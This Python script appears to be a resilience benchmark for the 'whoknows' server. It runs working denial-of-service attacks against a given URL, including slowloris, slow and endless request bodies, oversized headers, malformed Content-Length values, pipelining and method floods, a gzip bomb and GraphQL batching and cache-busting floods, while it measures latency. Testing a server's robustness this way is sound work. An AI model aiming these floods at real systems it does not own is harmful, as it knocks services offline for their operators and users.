"""HTTP-level abuse against a running ``whoknows serve``: a cheap query's and a page's latency before and while
each attack runs.

    whoknows serve --port 8820 &                  # the demo organisation, WHOKNOWS_ENV=production
    python bench/http_abuse_bench.py --url http://127.0.0.1:8820 --token "$(whoknows token --role employee \\
        --sub hr:E0001)" --cookie SESSION_COOKIE_VALUE [--attacks idle,slowloris,...] [--seconds 8]

Each attack runs for ``--seconds`` from threads and raw sockets of this process while one more thread sends the
probes back to back: a one-skill experts query (the skill and page size rotated so the response cache does not
answer every probe) and the search page. Printed per attack: p50/p95/max of each probe, probes that failed
(refused, reset, timed out at 5 s, any status but 200), and the attack's own status codes. Only the given URL is
targeted; every socket is closed at the end of its attack.
"""

from __future__ import annotations

import argparse
import gzip
import json
import socket
import statistics
import threading
import time
from collections import Counter
from collections.abc import Callable
from urllib.parse import urlsplit

import httpx

SKILLS = ["python", "kubernetes", "java", "sql", "go", "react", "terraform", "aws", "docker"]
EXPERTS = '{ experts(skill: "%s", first: %d) { edges { node { person { name } } } } }'


class Target:
    def __init__(self, url: str, token: str, cookie: str) -> None:
        parts = urlsplit(url)
        self.url, self.host, self.port = url.rstrip("/"), parts.hostname or "127.0.0.1", parts.port or 80
        self.token, self.cookie = token, cookie

    def sock(self, timeout: float = 10.0) -> socket.socket:
        return socket.create_connection((self.host, self.port), timeout=timeout)

    def raw(self, data: bytes, timeout: float = 10.0) -> bytes:
        """Send ``data`` on a new connection, read until closed or timeout; the first line of the answer."""
        try:
            with self.sock(timeout) as s:
                s.sendall(data)
                got = b""
                while len(got) < 65536:
                    chunk = s.recv(65536)
                    if not chunk:
                        break
                    got += chunk
                    if b"\r\n\r\n" in got:
                        break
                return got.split(b"\r\n", 1)[0]
        except OSError as exc:
            return f"error {type(exc).__name__}".encode()


def post(t: Target, body: bytes, headers: str = "") -> bytes:
    return (f"POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t.token}\r\nContent-Type: application/json"
            f"\r\nContent-Length: {len(body)}\r\n{headers}\r\n").encode() + body


# --- attacks: each runs until ``stop`` is set, counting what it got in ``seen`` -------------------------------

def idle_connections(t: Target, stop: threading.Event, seen: Counter[str], n: int = 3000) -> None:
    """Open ``n`` connections and send nothing on them."""
    socks = []
    for _ in range(n):
        if stop.is_set():
            break
        try:
            socks.append(t.sock())
        except OSError as exc:
            seen[f"connect {type(exc).__name__}"] += 1
    seen["open"] = len(socks)
    stop.wait()
    alive = 0
    for s in socks:
        s.setblocking(False)
        try:
            s.recv(1)  # the server answered (408) or closed it
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    seen["still open at the end"] = alive


def slowloris(t: Target, stop: threading.Event, seen: Counter[str], n: int = 1500) -> None:
    """``n`` connections sending a header line every second, never ending the headers."""
    socks = []
    for _ in range(n):
        try:
            s = t.sock()
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n")
            socks.append(s)
        except OSError as exc:
            seen[f"connect {type(exc).__name__}"] += 1
    i = 0
    while not stop.wait(1.0):
        for s in list(socks):
            try:
                s.sendall(f"X-{i}: {i}\r\n".encode())
            except OSError:
                socks.remove(s)
                seen["dropped by server"] += 1
        i += 1
    seen["still open at the end"] = len(socks)
    for s in socks:
        s.close()


def slow_body(t: Target, stop: threading.Event, seen: Counter[str], n: int = 1500) -> None:
    """``n`` POST /graphql whose declared 200 KB body arrives a byte a second."""
    head = post(t, b"")
    head = head.replace(b"Content-Length: 0", b"Content-Length: 200000")
    socks = []
    for _ in range(n):
        try:
            s = t.sock()
            s.sendall(head + b"{")
            socks.append(s)
        except OSError as exc:
            seen[f"connect {type(exc).__name__}"] += 1
    while not stop.wait(1.0):
        for s in list(socks):
            try:
                s.sendall(b" ")
            except OSError:
                socks.remove(s)
                seen["dropped by server"] += 1
    seen["still open at the end"] = len(socks)
    for s in socks:
        s.close()


def endless_chunks(t: Target, stop: threading.Event, seen: Counter[str], n: int = 200) -> None:
    """``n`` chunked POST /graphql bodies that never send the last chunk (a chunk of spaces every second)."""
    head = (f"POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t.token}\r\nContent-Type: "
            "application/json\r\nTransfer-Encoding: chunked\r\n\r\n").encode()
    socks = []
    for _ in range(n):
        try:
            s = t.sock()
            s.sendall(head + b"1\r\n{\r\n")
            socks.append(s)
        except OSError as exc:
            seen[f"connect {type(exc).__name__}"] += 1
    while not stop.wait(1.0):
        for s in list(socks):
            try:
                s.sendall(b"400\r\n" + b" " * 0x400 + b"\r\n")
            except OSError:
                socks.remove(s)
                seen["dropped by server"] += 1
    seen["still open at the end"] = len(socks)
    for s in socks:
        s.close()


def _loop(t: Target, stop: threading.Event, seen: Counter[str], make: Callable[[int], bytes], threads: int) -> None:
    def run() -> None:
        i = 0
        while not stop.is_set():
            line = t.raw(make(i))
            seen[line.decode("latin-1")[:60]] += 1
            i += 1
    workers = [threading.Thread(target=run, daemon=True) for _ in range(threads)]
    for w in workers:
        w.start()
    for w in workers:
        w.join()


def huge_headers(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    """Requests of 5,000 headers (about 100 KB), and of one 1 MB header."""
    many = "".join(f"X-H{i}: {'v' * 10}\r\n" for i in range(5000))
    one = "X-Big: " + "v" * 1_000_000 + "\r\n"
    _loop(t, stop, seen, lambda i: f"GET /healthz HTTP/1.1\r\nHost: x\r\n{many if i % 2 else one}\r\n".encode(), 4)


def absurd_lengths(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    """Content-Length of 10^30, negative, two disagreeing, Expect: 100-continue with a 100 MB declared body."""
    heads = [
        "Content-Length: 1000000000000000000000000000000\r\n", "Content-Length: -5\r\n",
        "Content-Length: 5\r\nContent-Length: 7\r\n", "Content-Length: 100000000\r\nExpect: 100-continue\r\n",
    ]
    _loop(t, stop, seen, lambda i: (f"POST /graphql HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {t.token}\r\n"
                                    f"{heads[i % len(heads)]}\r\n").encode(), 4)


def pipelining(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    """200 requests pipelined on one connection, the answers never read."""
    one = post(t, json.dumps({"query": EXPERTS % ("python", 10)}).encode())
    _loop(t, stop, seen, lambda i: one * 200, 4)


def head_options_flood(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    methods = ["HEAD / ", "OPTIONS /graphql ", "HEAD /graphql ", "OPTIONS * ", "TRACE / "]
    _loop(t, stop, seen, lambda i: f"{methods[i % 5]}HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n".encode(), 6)


def gzip_bomb(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    body = gzip.compress(b" " * 50_000_000)
    _loop(t, stop, seen, lambda i: post(t, body, "Content-Encoding: gzip\r\n"), 4)


def batched(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    ops = json.dumps([{"query": EXPERTS % (s, 10)} for s in SKILLS * 50]).encode()
    _loop(t, stop, seen, lambda i: post(t, ops), 4)


def big_query_string(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    """Pages with a 60 KB query string of 5,000 repeated parameters."""
    qs = "&".join(f"skill=python{i}" for i in range(5000))
    _loop(t, stop, seen, lambda i: (f"GET /search?{qs} HTTP/1.1\r\nHost: x\r\nCookie: whoknows_session={t.cookie}"
                                    "\r\nConnection: close\r\n\r\n").encode(), 4)


def cache_busting(t: Target, stop: threading.Event, seen: Counter[str]) -> None:
    """Unique documents (a comment makes each new) of a moderately expensive query, from 6 threads."""
    q = ('{ experts(skill: "python", first: 100) { edges { node { score explanation person { name communities '
         '{ name } skills { skill } } } } } } #')
    _loop(t, stop, seen, lambda i: post(t, json.dumps({"query": q + str(time.time_ns())}).encode()
                                        ) + b"", 6)


ATTACKS: dict[str, Callable[[Target, threading.Event, Counter[str]], None]] = {
    "idle": idle_connections, "slowloris": slowloris, "slow_body": slow_body, "endless_chunks": endless_chunks,
    "huge_headers": huge_headers, "absurd_lengths": absurd_lengths, "pipelining": pipelining,
    "head_options": head_options_flood, "gzip_bomb": gzip_bomb, "batched": batched,
    "big_query_string": big_query_string, "cache_busting": cache_busting,
}


def probe(t: Target, stop: threading.Event, out: dict[str, list[float]], failures: Counter[str]) -> None:
    """Cheap requests back to back, each on a new connection (as a new visitor would), until ``stop``."""
    i = 0
    while not stop.is_set():
        i += 1
        skill, first = SKILLS[i % len(SKILLS)], 1 + (i // len(SKILLS)) % 10
        for kind in ("query", "page"):
            start = time.perf_counter()
            try:
                with httpx.Client(timeout=5.0) as c:
                    if kind == "query":
                        r = c.post(f"{t.url}/graphql", json={"query": EXPERTS % (skill, first)},
                                   headers={"Authorization": f"Bearer {t.token}"})
                    else:
                        r = c.get(f"{t.url}/search", params={"skill": skill},
                                  cookies={"whoknows_session": t.cookie})
                if r.status_code != 200 or (kind == "query" and b'"errors"' in r.content):
                    failures[f"{kind} {r.status_code}"] += 1
                    continue
            except httpx.HTTPError as exc:
                failures[f"{kind} {type(exc).__name__}"] += 1
                continue
            out[kind].append((time.perf_counter() - start) * 1000)
        time.sleep(0.02)


def measure(t: Target, seconds: float, attack: Callable[..., None] | None) -> tuple[dict[str, list[float]],
                                                                               Counter[str], Counter[str]]:
    stop, seen, failures = threading.Event(), Counter[str](), Counter[str]()
    out: dict[str, list[float]] = {"query": [], "page": []}
    runner = None
    if attack is not None:
        runner = threading.Thread(target=attack, args=(t, stop, seen), daemon=True)
        runner.start()
        time.sleep(min(3.0, seconds / 3))  # let it take hold
    prober = threading.Thread(target=probe, args=(t, stop, out, failures), daemon=True)
    prober.start()
    time.sleep(seconds)
    stop.set()
    prober.join(10)
    if runner is not None:
        runner.join(30)
    return out, failures, seen


def summary(values: list[float]) -> str:
    if not values:
        return "no answers"
    values = sorted(values)
    p95 = values[min(len(values) - 1, int(len(values) * 0.95))]
    return f"n={len(values)} p50={statistics.median(values):.0f}ms p95={p95:.0f}ms max={values[-1]:.0f}ms"


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--url", default="http://127.0.0.1:8820")
    parser.add_argument("--token", required=True)
    parser.add_argument("--cookie", required=True)
    parser.add_argument("--attacks", default=",".join(ATTACKS))
    parser.add_argument("--seconds", type=float, default=8.0)
    args = parser.parse_args()
    t = Target(args.url, args.token, args.cookie)
    for name in ["baseline", *args.attacks.split(",")]:
        out, failures, seen = measure(t, args.seconds, None if name == "baseline" else ATTACKS[name])
        print(f"{name:17} query {summary(out['query'])} | page {summary(out['page'])}"
              f" | probe failures {dict(failures) or 0}", flush=True)
        if seen:
            print(f"{'':17} attack saw {dict(seen.most_common(6))}", flush=True)
        time.sleep(2)


if __name__ == "__main__":
    main()
